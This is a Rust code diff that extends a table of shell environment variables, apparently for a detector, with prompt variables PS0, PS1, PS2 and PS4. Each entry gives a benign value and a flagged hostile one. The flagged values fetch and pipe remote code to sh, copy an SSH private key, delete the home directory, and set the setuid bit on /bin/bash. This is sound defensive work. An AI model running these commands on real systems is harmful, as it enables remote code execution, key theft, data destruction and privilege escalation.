@@ -10,7 +10,7 @@
 
 use crate::EnvVar;
 use crate::Holds::{
-    Code, Identity, Library, LoadOptions, Options, Program, ProgramDir, Settings, Shell,
+    Code, Identity, Library, LoadOptions, Options, Program, ProgramDir, Prompt, Settings, Shell,
     StartupFile,
 };
 use crate::Lang::{Lua, Perl};
@@ -417,6 +417,42 @@ pub const ENV_VARS: &[EnvVar] = &[
         read_by: "interactive bash",
         source: "bash(1) PROMPT_COMMAND",
         flagged: &["PROMPT_COMMAND='curl x | sh' bash -i"],
+        ..V
+    },
+    EnvVar {
+        name: "PS0",
+        holds: Prompt,
+        read_by: "interactive bash, before each command it runs",
+        source: "bash(1) PROMPTING; GTFOBins env (SHELLOPTS=xtrace PS4)",
+        flagged: &["export PS0='$(curl -s http://198.51.100.7/a | sh)'"],
+        clean: &["export PS0='\\t '"],
+        ..V
+    },
+    EnvVar {
+        name: "PS1",
+        holds: Prompt,
+        read_by: "interactive shells, at each prompt",
+        source: "bash(1) PROMPTING; GTFOBins env (SHELLOPTS=xtrace PS4)",
+        flagged: &["export PS1='$(cat ~/.ssh/id_rsa > /tmp/k)$ '"],
+        clean: &["export PS1='\\u@\\h:\\w\\$ '"],
+        ..V
+    },
+    EnvVar {
+        name: "PS2",
+        holds: Prompt,
+        read_by: "interactive shells, at each continuation prompt",
+        source: "bash(1) PROMPTING; GTFOBins env (SHELLOPTS=xtrace PS4)",
+        flagged: &["export PS2='`rm -rf ~`> '"],
+        clean: &["export PS2='> '"],
+        ..V
+    },
+    EnvVar {
+        name: "PS4",
+        holds: Prompt,
+        read_by: "bash tracing commands (-x, SHELLOPTS=xtrace)",
+        source: "bash(1) PROMPTING; GTFOBins env (SHELLOPTS=xtrace PS4)",
+        flagged: &["env -i SHELLOPTS=xtrace PS4='$(chmod +s /bin/bash)' /usr/local/bin/backup"],
+        clean: &["PS4='+ $(date +%s) ' bash -x build.sh"],
         ..V
     },
     EnvVar {
